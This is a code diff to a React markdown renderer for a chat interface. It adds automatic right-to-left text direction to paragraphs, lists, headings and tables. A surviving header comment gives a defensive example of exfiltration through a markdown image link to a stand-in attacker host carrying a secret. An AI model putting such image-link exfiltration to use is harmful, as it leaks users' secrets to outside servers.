@@ -10,7 +10,7 @@
  * server (`![](https://attacker/?q=secret)`).
  */
 import { memo, useEffect, useState, type ComponentProps } from 'react';
-import ReactMarkdown, { type Components, type UrlTransform } from 'react-markdown';
+import ReactMarkdown, { type Components, type ExtraProps, type UrlTransform } from 'react-markdown';
 import remarkGfm from 'remark-gfm';
 import { hasMath } from '@/lib/markdown/math';
 import { isWebUrl, safeUrl } from '@/lib/markdown/urls';
@@ -43,9 +43,31 @@ function Image({ src, alt }: ComponentProps<'img'>) {
   );
 }
 
+/*
+ * Right-to-left text: each block element takes its direction from its own first strong letter
+ * (`dir="auto"`, as ChatGPT does), so an Arabic paragraph reads right to left beside an English
+ * one. Lists take it as a whole (`dir="auto"` skips descendants with their own `dir`, so items
+ * go without); code blocks stay left to right (CodeBlock).
+ */
+type Props<T extends 'p' | 'ul' | 'ol' | 'h1' | 'h2' | 'h3' | 'h4' | 'h5' | 'h6' | 'table'> =
+  ComponentProps<T> & ExtraProps;
+const AUTO = {
+  p: ({ node: _n, ...p }: Props<'p'>) => <p dir="auto" {...p} />,
+  ul: ({ node: _n, ...p }: Props<'ul'>) => <ul dir="auto" {...p} />,
+  ol: ({ node: _n, ...p }: Props<'ol'>) => <ol dir="auto" {...p} />,
+  h1: ({ node: _n, ...p }: Props<'h1'>) => <h1 dir="auto" {...p} />,
+  h2: ({ node: _n, ...p }: Props<'h2'>) => <h2 dir="auto" {...p} />,
+  h3: ({ node: _n, ...p }: Props<'h3'>) => <h3 dir="auto" {...p} />,
+  h4: ({ node: _n, ...p }: Props<'h4'>) => <h4 dir="auto" {...p} />,
+  h5: ({ node: _n, ...p }: Props<'h5'>) => <h5 dir="auto" {...p} />,
+  h6: ({ node: _n, ...p }: Props<'h6'>) => <h6 dir="auto" {...p} />,
+  table: ({ node: _n, ...p }: Props<'table'>) => <table dir="auto" {...p} />,
+} satisfies Components;
+
 /** Which react-markdown components to use: code blocks know whether their block is final. */
 function components(final: boolean): Components {
   return {
+    ...AUTO,
     a: Link,
     img: Image,
     pre: ({ node }) => {
